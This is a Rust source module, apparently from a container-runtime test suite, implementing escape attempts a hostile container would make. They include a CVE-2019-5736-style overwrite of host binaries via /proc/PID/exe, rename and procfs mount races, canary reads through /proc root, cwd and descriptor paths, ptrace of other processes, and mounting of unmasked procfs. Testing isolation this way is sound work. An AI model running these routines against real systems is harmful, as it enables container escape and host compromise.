//! What a hostile container tries. Each prints what it saw; what that means is judged outside.

use std::fs;
use std::io::{Read as _, Write as _};
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::MetadataExt as _;
use std::process::ExitCode;
use std::time::{Duration, Instant};

use nix::sys::ptrace;
use nix::sys::wait::{WaitPidFlag, waitpid};
use nix::unistd::Pid;
use serde_json::{Value, json};

use crate::facts;

/// What an attacker writes where it must not.
const MARK: &[u8] = b"#!/overwritten by a container\n";

/// CVE-2019-5736: finds each foreign process that shows up in `/proc`, opens its program and
/// writes to it as soon as the process has gone.
///
/// Prints "ready", then one JSON line per program seen; ends after `tries` scans.
pub(crate) fn exe(tries: u32) {
    let own = fs::metadata("/proc/self/exe").map(|m| (m.dev(), m.ino())).ok();
    let mut seen = Vec::new();
    println!("ready");
    let _ = std::io::stdout().flush();
    for _ in 0..tries {
        for pid in facts::pids().unwrap_or_default() {
            let path = format!("/proc/{pid}/exe");
            let Ok(program) = fs::File::open(&path) else {
                continue;
            };
            let Ok(meta) = program.metadata() else {
                continue;
            };
            let id = (meta.dev(), meta.ino());
            if Some(id) == own || seen.contains(&id) {
                continue;
            }
            seen.push(id);
            let link = fs::read_link(&path).ok();
            println!(
                "{}",
                overwrite(
                    &program,
                    &json!({ "pid": pid, "link": link, "dev": id.0, "ino": id.1, "size": meta.size() })
                )
            );
            let _ = std::io::stdout().flush();
        }
    }
    println!("{}", json!({ "done": true, "seen": seen.len() }));
}

/// The descriptor we hold outlives the process: while that runs, opening for writing is ETXTBSY.
fn overwrite(program: &fs::File, about: &Value) -> Value {
    let again = format!("/proc/self/fd/{}", program.as_raw_fd());
    let mut answer = String::new();
    for _ in 0..20_000 {
        match fs::OpenOptions::new().write(true).open(&again) {
            Ok(mut file) => {
                answer = match file.write_all(MARK) {
                    Ok(()) => "written".to_owned(),
                    Err(error) => facts::errno(error),
                };
                break;
            }
            Err(error) => answer = facts::errno(error),
        }
        if answer != "ETXTBSY" {
            break;
        }
        std::thread::yield_now();
    }
    let mut start = [0; 4];
    let is_elf = (&*program).read_exact(&mut start).is_ok() && start == *b"\x7fELF";
    json!({ "program": about, "elf": is_elf, "write": answer })
}

/// Exchanges two names without a moment in which either is missing (CVE-2021-30465 and its kin).
pub(crate) fn exchange(a: &str, b: &str) -> ExitCode {
    println!("ready");
    let _ = std::io::stdout().flush();
    loop {
        let flags = rustix::fs::RenameFlags::EXCHANGE;
        if let Err(error) = rustix::fs::renameat_with(rustix::fs::CWD, a, rustix::fs::CWD, b, flags) {
            eprintln!("exchange: {}", facts::errno(error));
            return ExitCode::FAILURE;
        }
    }
}

/// Mounts a procfs on `target` and unmounts it for ever, so that it is there half of the time
/// (CVE-2025-52881): on the host, in a mount namespace of the test's own, from where it propagates.
pub(crate) fn mount(target: &str) -> ExitCode {
    use nix::mount::{MntFlags, MsFlags, mount, umount2};
    println!("ready");
    let _ = std::io::stdout().flush();
    let mut pause = Duration::ZERO;
    loop {
        let begin = Instant::now();
        let mounted = mount(Some("proc"), target, Some("proc"), MsFlags::empty(), None::<&str>);
        while begin.elapsed() < pause {
            std::hint::spin_loop();
        }
        let begin = Instant::now();
        if let Err(error) = mounted.and_then(|()| umount2(target, MntFlags::MNT_DETACH)) {
            eprintln!("mount: {error:?}");
            return ExitCode::FAILURE;
        }
        pause = begin.elapsed();
    }
}

/// Tries to read the host's file `canary` (an absolute path on the host) through everything that could lead out.
/// That is the cwd, every open descriptor, and the roots and cwds of all visible processes.
pub(crate) fn escape(canary: &str) -> Value {
    let relative = canary.trim_start_matches('/');
    let up = "../".repeat(32);
    let mut doors = vec![format!("/{relative}"), format!("{up}{relative}"), format!("./{up}{relative}")];
    for pid in facts::pids().unwrap_or_default() {
        doors.push(format!("/proc/{pid}/root/{relative}"));
        doors.push(format!("/proc/{pid}/cwd/{up}{relative}"));
        for fd in facts::names(&format!("/proc/{pid}/fd")).unwrap_or_default() {
            doors.push(format!("/proc/{pid}/fd/{fd}/{relative}"));
            doors.push(format!("/proc/{pid}/fd/{fd}/{up}{relative}"));
        }
    }
    let open: Vec<_> = doors.iter().filter(|door| fs::read(door).is_ok()).collect();
    let cwd = std::env::current_dir().map_or_else(facts::errno, |cwd| cwd.display().to_string());
    json!({ "tried": doors.len(), "open": open, "cwd": cwd })
}

fn say(line: &Value) {
    println!("{line}");
    let _ = std::io::stdout().flush();
}

/// The processes that are not this one.
fn others() -> Vec<u32> {
    let own = std::process::id();
    facts::pids().unwrap_or_default().into_iter().filter(|pid| *pid != own).collect()
}

/// Looks for a way to the host's file `canary` in every process that shows up, for ever.
///
/// Prints "ready", then one JSON line per program that it can look into, and per open door.
pub(crate) fn doors(canary: &str) -> ! {
    let relative = canary.trim_start_matches('/');
    let up = "../".repeat(32);
    let mut seen = Vec::new();
    println!("ready");
    let _ = std::io::stdout().flush();
    loop {
        for pid in others() {
            let of = |name: &str| format!("/proc/{pid}/{name}");
            let mut doors = vec![of(&format!("root/{relative}")), of(&format!("cwd/{up}{relative}"))];
            for fd in facts::names(&of("fd")).unwrap_or_default() {
                doors.push(of(&format!("fd/{fd}/{relative}")));
                doors.push(of(&format!("fd/{fd}/{up}{relative}")));
            }
            if let Ok(program) = fs::read_link(of("exe")) {
                if !seen.contains(&program) {
                    say(&json!({ "program": program }));
                    seen.push(program);
                }
            }
            doors.iter().filter(|door| fs::read(door).is_ok()).for_each(|door| say(&json!({ "door": door })));
        }
    }
}

/// Traces every process that shows up (ptrace(2), `PTRACE_SEIZE`) and reads what it may do.
///
/// Prints "ready", then one JSON line per program, set of capabilities and mode of seccomp.
pub(crate) fn trace() -> ! {
    let own = fs::read_link("/proc/self/exe").ok();
    let (mut seen, mut done) = (Vec::new(), Vec::new());
    println!("ready");
    let _ = std::io::stdout().flush();
    loop {
        for raw in others().into_iter().filter_map(|pid| i32::try_from(pid).ok()) {
            let pid = Pid::from_raw(raw);
            if done.contains(&raw) || ptrace::seize(pid, ptrace::Options::empty()).is_err() {
                continue;
            }
            let _ = ptrace::interrupt(pid);
            let _ = waitpid(pid, Some(WaitPidFlag::__WALL));
            let program = fs::read_link(format!("/proc/{raw}/exe")).ok();
            let status = facts::text(format!("/proc/{raw}/status")).unwrap_or_default();
            let value = |name: &str| status.lines().find_map(|line| line.strip_prefix(name)).map(str::to_owned);
            let (permitted, seccomp) = (value("CapPrm:\t"), value("Seccomp:\t"));
            let _ = ptrace::detach(pid, None);
            // It ended before it stopped.
            let Some(permitted) = permitted else { continue };
            if program == own {
                done.push(raw);
            }
            let what = json!({ "traced": program, "permitted": permitted, "seccomp": seccomp });
            if !seen.contains(&what) {
                say(&what);
                seen.push(what);
            }
        }
    }
}

/// A user namespace of its own, and a procfs and a sysfs there that have no masks (Linux fs/namespace.c,
/// `mount_too_revealing`). Root of it may have them if one without masks is in the mount namespace.
pub(crate) fn fresh() {
    use nix::sched::{CloneFlags, unshare};
    let ids = [("uid_map", nix::unistd::getuid().as_raw()), ("gid_map", nix::unistd::getgid().as_raw())];
    let all = CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS | CloneFlags::CLONE_NEWPID | CloneFlags::CLONE_NEWNET;
    if let Err(error) = unshare(all) {
        return println!("{}", json!({ "unshare": format!("{error:?}") }));
    }
    let _ = fs::write("/proc/self/setgroups", "deny");
    for (file, id) in ids {
        if let Err(error) = fs::write(format!("/proc/self/{file}"), format!("0 {id} 1")) {
            return println!("{}", json!({ file: facts::errno(error) }));
        }
    }
    // The pid namespace is one for children alone.
    let myself = std::env::args_os().next().unwrap_or_default();
    let status = std::process::Command::new(myself).arg("attack-fresh-mounts").status();
    if let Err(error) = status {
        println!("{}", json!({ "spawn": facts::errno(error) }));
    }
}

/// What [`fresh`] does in its namespaces.
pub(crate) fn fresh_mounts() -> Value {
    json!({ "proc": fresh_mount(c"proc", "keys"), "sysfs": fresh_mount(c"sysfs", "firmware") })
}

fn fresh_mount(kind: &std::ffi::CStr, masked: &str) -> Value {
    use rustix::mount::{FsMountFlags, FsOpenFlags, MountAttrFlags, fsconfig_create, fsmount, fsopen};
    let mount = || -> rustix::io::Result<_> {
        let context = fsopen(kind, FsOpenFlags::FSOPEN_CLOEXEC)?;
        fsconfig_create(&context)?;
        fsmount(&context, FsMountFlags::FSMOUNT_CLOEXEC, MountAttrFlags::empty())
    };
    match mount() {
        Err(error) => json!({ "error": facts::errno(error) }),
        Ok(root) => {
            let there = rustix::fs::statat(&root, masked, rustix::fs::AtFlags::empty());
            json!({ "mounted": true, "masked": there.map_or_else(facts::errno, |_| "there".to_owned()) })
        }
    }
}
